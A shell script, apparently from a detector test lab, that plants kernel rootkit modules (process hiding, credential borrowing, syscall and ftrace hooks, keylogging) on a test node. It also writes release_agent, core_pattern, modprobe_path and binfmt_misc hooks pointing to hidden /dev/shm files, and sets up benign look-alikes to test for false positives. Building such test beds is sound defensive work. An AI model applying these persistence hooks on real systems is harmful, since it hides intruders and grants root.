# shellcheck shell=dash
# --- Rootkits: loads every module of ../intruder that has been built into this kernel. Appended to node.sh.
# intrusion NAME PARAMETERS…: loads a module and prints the intrusion on the console
intrusion() {
    module=$1
    shift
    [ -f "/extra/$module.ko" ] || return
    cause=$(insmod "/extra/$module.ko" "$@" 2>&1) || case $module-$cause in
        # The module fails to load; the code that it copied stays in place
        orphan-*) ;;
        # Kernels without x64_sys_call have no call to patch
        syscall_dispatch-*) return ;;
        *)
            echo "lab: $module failed: $cause"
            return
            ;;
    esac
    echo "lab: intrusion $module $*"
}

# A clean node may have these too: events of perf_event_open(2), a probe in a program, a hierarchy of cgroup v1, and an
# emulator registered for programs of another processor.
mount -t tracefs tracefs /sys/kernel/tracing 2>/dev/null
/usr/bin/lab watcher </dev/null >/dev/null 2>&1 &
echo "p:lab/watched /usr/bin/lab:$(/usr/bin/lab watcher --offset)" >/sys/kernel/tracing/uprobe_events
# Kernels before 7.2 refuse probes at instructions of ten bytes.
/usr/bin/lab stepper --offsets | while read -r name offset; do
    echo "p:lab/$name /usr/bin/lab:$offset" >>/sys/kernel/tracing/uprobe_events
done
for event in watched probe long_probe former_probe; do
    echo 1 2>/dev/null >/sys/kernel/tracing/events/lab/$event/enable || :
done
/usr/bin/lab stepper </dev/null >/dev/null 2>&1 &
mkdir -p /run/cgroup.v1
mount -t cgroup -o none,name=lab cgroup /run/cgroup.v1 || echo "lab: no cgroup v1"
formats=/proc/sys/fs/binfmt_misc
if ! modprobe binfmt_misc || ! mount -t binfmt_misc binfmt_misc "$formats"; then
    echo "lab: no binfmt_misc"
fi
magic='\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\xb7\x00'
mask='\xff\xff\xff\xff\xff\xff\xff\x00\xff\xff\xff\xff\xff\xff\xff\xff\xfe\xff\xff\xff'
printf '%s' ":qemu-aarch64:M::$magic:$mask:/bin/busybox:POCF" >$formats/register

/usr/bin/lab --title unlisted </dev/null >/dev/null 2>&1 &
unlisted=$!
/usr/bin/lab --title unnumbered </dev/null >/dev/null 2>&1 &
unnumbered=$!
/usr/bin/lab --title nowhere </dev/null >/dev/null 2>&1 &
nowhere=$!
/usr/bin/lab --user 65534 --title promoted </dev/null >/dev/null 2>&1 &
promoted=$!
sleep 2
echo 0 >/sys/kernel/tracing/events/lab/former_probe/enable
echo "-:lab/former_probe" >>/sys/kernel/tracing/uprobe_events

if [ -d /extra ] && ls /extra/*.ko >/dev/null 2>&1; then
    intrusion hidden_process "pid=$unlisted"
    intrusion hidden_pid "pid=$unnumbered"
    intrusion hidden_altogether "pid=$nowhere"
    intrusion borrowed_cred "pid=$promoted"
    # In a static program that is not relocated, the entry point is its offset in the file plus 4 MB.
    entry=$(od -A n -t d8 -j 24 -N 8 /bin/busybox)
    intrusion user_probe path=/bin/busybox offset=$((entry % 4194304))
    for module in breakpoint syscall_table syscall_dispatch ftrace_hook netfilter_hook text_byte idt_gate tcp_show keyboard_notifier \
        tty_receive kprobe_hook tracepoint_probe lsm_hook root_directory proc_directory \
        device_write orphan hidden_module; do
        intrusion $module
    done
    echo /dev/shm/.agent >/run/cgroup.v1/release_agent && echo "lab: intrusion release_agent"
    # The registered program then starts every script, also scripts that run as root, with the script's rights.
    printf '%s' ':scripts:M::#!::/bin/busybox:C' >$formats/register && echo "lab: intrusion binfmt_misc"
    echo '|/dev/shm/.core %p' >/proc/sys/kernel/core_pattern && echo "lab: intrusion core_pattern"
    echo /dev/shm/.modprobe >/proc/sys/kernel/modprobe && echo "lab: intrusion modprobe_path"
fi
if [ -f /extra/programs ]; then
    for place in call probe long_probe; do
        /usr/bin/lab stepper --rewrite $place </dev/null >/dev/null 2>&1 &
        echo "lab: intrusion rewritten_$place"
    done
    sleep 1
fi
